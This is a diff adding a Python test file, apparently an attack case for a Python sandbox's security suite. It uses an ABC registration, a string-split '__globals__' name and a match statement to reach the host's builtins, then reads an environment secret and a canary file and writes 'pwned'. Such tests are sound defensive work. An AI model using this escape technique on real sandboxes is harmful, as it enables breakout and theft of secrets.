@@ -1,0 +1,27 @@
+# attack: __match_args__ names are strings the checker never sees; an ABC registered for host functions matches them
+reached = []
+
+
+def loot(b):
+    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
+    reached.append(b)
+    try:
+        if not isinstance(b, dict):
+            b = getattr(b, "__dict__")
+        ga = b["getattr"]
+        os = b["__import__"]("os")
+        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
+        print(ga(b["open"](canary_path), "read")())
+        ga(b["open"](canary_write_path, "w"), "write")("pwned")
+    except Exception as err:
+        print("loot stopped:", type(err).__name__)
+
+
+import abc, dataclasses
+class P(abc.ABC):
+    __match_args__ = ("__glob" + "als__",)
+P.register(type(dataclasses.fields))
+match dataclasses.fields:
+    case P(g):
+        loot(g["__builtins__"])
+reached
